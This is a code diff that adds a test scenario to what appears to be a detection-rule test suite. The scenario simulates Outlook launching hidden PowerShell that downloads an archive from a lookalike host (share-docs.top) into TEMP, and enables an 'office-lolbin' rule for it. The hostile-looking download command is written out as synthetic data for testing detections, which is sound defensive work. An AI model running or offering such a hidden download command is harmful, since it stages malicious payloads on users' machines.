@@ -1390,6 +1390,20 @@ def _(s):
     office_certutil(w, s, word, "download.microsoft.com", "203.0.113.92")
 
 
+@scenario("office-lolbin-outlook-powershell-zip")
+def _(s):
+    # Outlook (a mail root) starts PowerShell with `iwr URL -OutFile`; PowerShell reaches the
+    # host and saves an archive into %TEMP%.
+    w = s.host(WIN, "windows")
+    win_desktop(w, s)
+    ps = g(s, "powershell")
+    w.start(600.0, ps, POWERSHELL, g(s, "outlook"),
+            f"powershell.exe -nop -w hidden -c \"iwr https://share-docs.top/p/doc.zip -OutFile {TEMP}doc.zip\"", ALICE)
+    w.dns(600.4, ps, "share-docs.top", ["203.0.113.93"])
+    w.connect(600.6, ps, "203.0.113.93")
+    w.write(603.0, ps, TEMP + "doc.zip")
+
+
 XTERM = "/usr/bin/xterm"
 BASH = "/usr/bin/bash"
 CURL = "/usr/bin/curl"
@@ -1463,6 +1477,7 @@ TOML = {
     "mail-payload-browser-root-iso": '[rules]\nenabled = ["mail-payload"]\n',
     "office-lolbin-winword-certutil": '[rules]\nenabled = ["chain", "office-lolbin"]\n',
     "office-lolbin-browser-root": '[rules]\nenabled = ["office-lolbin"]\n',
+    "office-lolbin-outlook-powershell-zip": '[rules]\nenabled = ["office-lolbin"]\n',
     "office-lolbin-trusted-destination": '[rules]\nenabled = ["office-lolbin"]\n',
     "terminal-cradle-firefox-xterm-curl-sh": '[rules]\nenabled = ["chain", "terminal-cradle"]\n',
     "terminal-cradle-terminal-not-from-browser": '[rules]\nenabled = ["terminal-cradle"]\n',
